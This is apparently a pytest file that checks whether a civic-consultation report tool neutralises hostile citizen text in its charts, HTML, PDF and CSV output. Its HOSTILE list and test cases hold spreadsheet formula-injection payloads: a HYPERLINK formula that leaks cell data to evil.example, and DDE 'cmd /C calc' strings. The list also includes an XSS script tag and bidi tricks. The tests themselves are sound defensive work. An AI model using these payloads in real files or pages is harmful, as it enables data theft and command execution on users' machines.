"""Citizens' text is hostile: no chart, PDF or spreadsheet may interpret it (issue #14, 1 and 2).

A report is built from an export whose proposals hold TeX, spreadsheet formulas, HTML, bidi
controls and zero-width characters; it must be written, and no cell of a CSV for people may
start a formula.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from matplotlib.text import Text

from analysis.__main__ import main as analysis_main
from analysis.report import charts
from analysis.report.simulate import write_consultation
from analysis.report.tables import Table
from analysis.spreadsheet import FORMULA_STARTS, safe_cell

HOSTILE = [
    r"Bomen $\frac{1}{$ kosten $x^^2$ euro",
    "Van $5 naar $10 per uur **vet** <i>schuin</i> --door--",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 meer fietsen",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
    "<script>alert('x')</script> <b>vet</b> **markdown** --doorgestreept--",
    "Parkeren \u202eegaraG\u202c in de \u2067wijk\u2069",
    "\u200b\u200c\u200d=zero width ervoor",
    "＝1+1 full width",
]


def test_tex_in_a_label_is_drawn_as_written(tmp_path: Path) -> None:
    # Before: matplotlib's mathtext raised ParseSyntaxException on the first label.
    fig = charts.answer_bars(HOSTILE[:2], [1, 2], [33.3, 66.7], r"$\alpha$ en $x^2$")
    texts = fig.findobj(Text)
    saved = charts.save(fig, "tex", tmp_path)
    assert saved.png.stat().st_size > 0
    assert not any(text.get_parse_math() for text in texts)
    assert not any(text.get_usetex() for text in texts)


@pytest.mark.parametrize(
    "draw",
    [
        lambda labels: charts.diverging(
            labels, [("alle", [50.0] * len(labels), [20.0] * len(labels))], "eens", "oneens"
        ),
        lambda labels: charts.theme_bars(
            labels, [1] * len(labels), [50.0] * len(labels), "$size$", "$support$"
        ),
        lambda labels: charts.opinion_map(
            np.zeros((len(labels), 2)), np.arange(len(labels)) % 2, labels[:2]
        ),
    ],
)
def test_every_chart_takes_hostile_labels(tmp_path: Path, draw) -> None:
    charts.save(draw(HOSTILE), "chart", tmp_path)
    assert (tmp_path / "chart.png").stat().st_size > 0


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-x", "'-x"),
        ("-", "-"),
        ("--1", "'--1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("gewoon", "gewoon"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e-05", "-1e-05"),
        (-3, -3),
        (-0.25, -0.25),
        (None, ""),
        ("", ""),
        ("a=1", "a=1"),
    ],
)
def test_safe_cell(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_report_table_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = Table("t", ["text", "count", "share"], [[text, -1, -2.5] for text in HOSTILE])
    with table.write(tmp_path).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert all(not row[0].startswith(FORMULA_STARTS) for row in rows[1:])
    assert [row[1:] for row in rows[1:]] == [["-1", "-2.5"]] * len(HOSTILE)
    assert rows[3][0] == "'" + HOSTILE[2]


@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-export")
    write_consultation(
        folder, n_participants=80, n_proposals=len(HOSTILE) + 4, votes_per_participant=10, seed=5
    )
    for name, column in (("comments.csv", "comment-body"), ("proposals.csv", "text")):
        path = folder / name
        with path.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        for row, text in zip(rows, HOSTILE, strict=False):
            row[column] = text
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return folder


def _cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("**/*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    return cells


def _starts_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


def test_report_from_hostile_proposals(hostile_export: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "report"
    assert (
        analysis_main(["report", "--polis", str(hostile_export), "--out", str(out), "--quiet"]) == 0
    )
    assert "Traceback" not in capsys.readouterr().err
    assert (out / "index.html").stat().st_size > 0 and (out / "report.pdf").stat().st_size > 0
    cells = _cells(out / "tables")
    assert cells, "the report wrote no tables"
    assert [cell for cell in cells if _starts_formula(cell)] == []
    page = (out / "index.html").read_text("utf-8")
    assert "<script>alert" not in page
    pdf_text = _pdf_text(out / "report.pdf")
    if pdf_text is not None:  # fpdf2's markdown and HTML modes are never fed citizens' text
        assert HOSTILE[0] in pdf_text and HOSTILE[1] in pdf_text


def _pdf_text(pdf: Path) -> str | None:
    if shutil.which("pdftotext") is None:
        if os.environ.get("CI"):
            pytest.fail("pdftotext is not installed on CI (.ci/run installs poppler-utils)")
        return None
    done = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    return done.stdout


def test_opinions_csv_from_hostile_proposals(hostile_export: Path, tmp_path: Path) -> None:
    out = tmp_path / "opinions"
    assert (
        analysis_main(
            ["opinions", str(hostile_export), "--out", str(out), "--quiet", "--resamples", "0"]
        )
        == 0
    )
    cells = _cells(out)
    assert [cell for cell in cells if _starts_formula(cell)] == []
    assert "'" + HOSTILE[2] in cells


def test_theme_assignments_csv_neutralises_labels(tmp_path: Path) -> None:
    from analysis.themes.cli import write_assignments

    write_assignments(tmp_path / "themes.csv", [0, 1], ["=cmd|' /C calc'!A0", "fiets, pad"])
    assert [cell for cell in _cells(tmp_path) if _starts_formula(cell)] == []
